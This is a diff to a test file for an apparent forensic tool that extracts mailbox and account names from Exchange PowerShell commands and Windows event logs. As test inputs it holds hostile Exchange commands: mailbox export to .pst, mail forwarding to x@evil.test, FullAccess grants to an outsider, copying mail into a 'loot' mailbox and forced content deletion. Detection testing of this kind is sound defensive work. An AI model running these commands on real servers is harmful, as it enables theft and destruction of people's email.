@@ -8,7 +8,7 @@ import pytest
 
 from exhume.model import Record, Source
 from exhume.model.address import inside
-from exhume.model.names import accounts_in, page_of, pages_in, parameters_of
+from exhume.model.names import accounts_in, mailboxes_in_script, page_of, pages_in, parameters_of
 from exhume.model.visit import keys_of
 
 WHERE = Source("e", "log", "line 1")
@@ -121,6 +121,84 @@ def test_mailboxes_of_cmdlets(cmdlet, parameters, mailboxes):
     assert named("windows.event", {"Cmdlet": cmdlet, "Parameters": parameters}, "mailbox") == mailboxes
 
 
+@pytest.mark.parametrize(
+    ("text", "mailboxes"),
+    [
+        ("New-MailboxExportRequest -Mailbox jane@contoso.test -FilePath '\\\\localhost\\c$\\m.pst'", "jane@contoso.test"),
+        ("Add-PSSnapin x; New-MailboxExportRequest -Mailbox 'Jane@contoso.test' -FilePath y", "jane@contoso.test"),
+        ('New-MailboxExportRequest -FilePath "y" -Mailbox "Jane Doe"', "jane doe"),
+        ("new-mailboxexportrequest `\r\n -filepath y `\r\n -mailbox:jane", "jane"),
+        ("Search-Mailbox -Identity jane -SearchQuery 'a;b' -TargetMailbox loot -TargetFolder x", "jane loot"),
+        ("Search-Mailbox jane -DeleteContent -Force", "jane"),
+        ("New-InboxRule -Name sync -Mailbox jane -ForwardTo x@evil.test", "jane"),
+        ("Add-MailboxPermission jane -User eve -AccessRights FullAccess", "jane"),
+        ("Add-MailboxPermission -Identity 'jane' -User eve -AccessRights FullAccess", "jane"),
+        ("Set-Mailbox anna -ForwardingSmtpAddress x@evil.test; Get-Date", "anna"),
+        ("New-MailboxSearch -SourceMailboxes @('a@b.test','c') -Name x", "a@b.test c"),
+        ('powershell.exe -c "New-MailboxExportRequest -Mailbox jane -FilePath y"', "jane"),
+        ('powershell.exe -Command "New-MailboxExportRequest -Mailbox \\"Jane D\\" -FilePath y"', "jane d"),
+        ("(Get-Mailbox -Identity jane) | New-MailboxExportRequest -FilePath y", "jane"),
+        ("foreach ($m in $all) { New-MailboxExportRequest -Mailbox $m -FilePath \"\\\\nas\\$($m.Alias).pst\" }", ""),
+        ("New-MailboxExportRequest -Mailbox $_.Alias -FilePath y", ""),
+        ("Get-Mailbox -ResultSize Unlimited | Set-Mailbox -RetainDeletedItemsFor 30", ""),
+        ("Get-MailboxDatabase -Identity DB01 -Status", ""),
+        ("Get-MailboxServer EX01", ""),
+        ("Get-MailboxExportRequest | Format-Table", ""),
+        ("Write-Host 'use -Mailbox jane'", ""),
+        ("# a mailbox is kept; Copy-Item -Mailbox x", ""),
+        ("My-New-MailboxExportRequest2 -Mailbox jane", ""),
+        ("schtasks /create /tn backup-mailbox /tr x", ""),
+    ],
+)  # fmt: skip
+def test_mailboxes_that_scripts_and_command_lines_name(text, mailboxes):
+    wanted = {"jane doe", "jane d"} & {mailboxes} or set(mailboxes.split())
+    assert set(mailboxes_in_script(text)) == wanted
+    assert named("windows.event", {"EventID": 4104, "ScriptBlockText": text}, "mailbox") == wanted
+    assert named("windows.event", {"EventID": 4688, "CommandLine": text}, "mailbox") == wanted
+    assert named("windows.task", {"Command": "powershell.exe", "Arguments": text}, "mailbox") == wanted
+
+
+@pytest.mark.parametrize(
+    ("user", "mailbox"),
+    [
+        ("CFO@contoso.test", "cfo@contoso.test"),
+        ("SMTP:cfo@contoso.test", "cfo@contoso.test"),
+        ("smtp~cfo@contoso.test", "cfo@contoso.test"),
+        ("CONTOSO\\cfo", "contoso\\cfo"),
+        ("S-1-5-21-1-2-3-1105", "s-1-5-21-1-2-3-1105"),
+        ("CONTOSO\\EX01$", ""),
+        ("-", ""),
+        ("", ""),
+    ],
+)
+@pytest.mark.parametrize("field", ["ImpersonatedUser", "ActAsUser", "ProxyAsUser"])
+def test_mailboxes_in_whose_name_web_services_were_asked(field, user, mailbox):
+    row = {"AuthenticatedUser": "CONTOSO\\EX01$", "ClientIpAddress": "203.0.113.9", field: user}
+    assert named("exchange.ews", row, "mailbox") == ({mailbox} if mailbox else set())
+    assert not named("exchange.ews", row, "account"), "the server's own account is nobody"
+
+
+@pytest.mark.parametrize(
+    ("fields", "accounts"),
+    [
+        ({"EventID": 4688, "SubjectUserName": "svc-scan", "TargetUserName": "-", "CommandLine": "x"}, {"svc-scan"}),
+        ({"EventID": 4688, "SubjectUserName": "EX01$", "TargetUserName": "Eve", "CommandLine": "x"}, {"eve"}),
+        ({"EventID": 4688, "SubjectUserName": "EX01$", "TargetUserName": "-", "CommandLine": "x"}, set()),
+        ({"EventID": 4688, "SubjectUserName": "SYSTEM", "CommandLine": "x"}, set()),
+        ({"EventID": 1, "User": "CONTOSO\\svc-scan", "CommandLine": "x"}, {"contoso\\svc-scan"}),
+        ({"EventID": 1, "User": "NT AUTHORITY\\SYSTEM", "CommandLine": "x"}, set()),
+        ({"EventID": 1, "User": "NT-AUTORIT\u00c4T\\Lokaler Dienst", "CommandLine": "x"}, set()),
+        ({"EventID": 1, "User": "IIS APPPOOL\\MSExchangeOWAAppPool", "CommandLine": "x"}, set()),
+        ({"EventID": 1, "User": "-", "CommandLine": "x"}, set()),
+        ({"EventID": 4672, "SubjectUserName": "admin"}, set()),
+        ({"EventID": 11, "User": "CONTOSO\\admin", "TargetFilename": "C:\\x.txt"}, set()),
+    ],
+)  # fmt: skip
+def test_who_ran_a_command(fields, accounts):
+    assert named("windows.event", fields, "named") == accounts
+    assert not named("windows.event", fields, "account"), "it joins nothing: an administrator runs many commands"
+
+
 def test_the_admin_centres_way_to_write_parameters():
     command = "New-InboxRule.Name='sync'.ForwardTo='x@evil.test'.StopProcessingRules=$false.Mailbox='Jane Doe'"
     assert named("exchange.ecp-server", {"S:CMD": command, "S:URL": "/ecp/"}, "mailbox") == {"jane doe"}
@@ -228,7 +306,7 @@ def test_outside_or_no_address(address):
 
 
 @pytest.mark.parametrize("text", ["-A " * 40_000, "C:\\" * 40_000, "'" * 100_000, "-Mailbox " + '"a",' * 30_000, "net user " * 20_000,
-                                  "/" * 100_000, "-a 'x" * 20_000, "C:\\" + "a" * 100_000, ".a='" * 30_000])  # fmt: skip
+                                  "/" * 100_000, "-a 'x" * 20_000, "New-Mailbox 'a' " * 9_000, "-mailbox" * 9_000, "C:\\" + "a" * 100_000, ".a='" * 30_000])  # fmt: skip
 def test_hostile_texts_cost_little(text):
     began = perf_counter()
     named("windows.event", {"Cmdlet": "Set-Mailbox", "Parameters": text}, "mailbox")
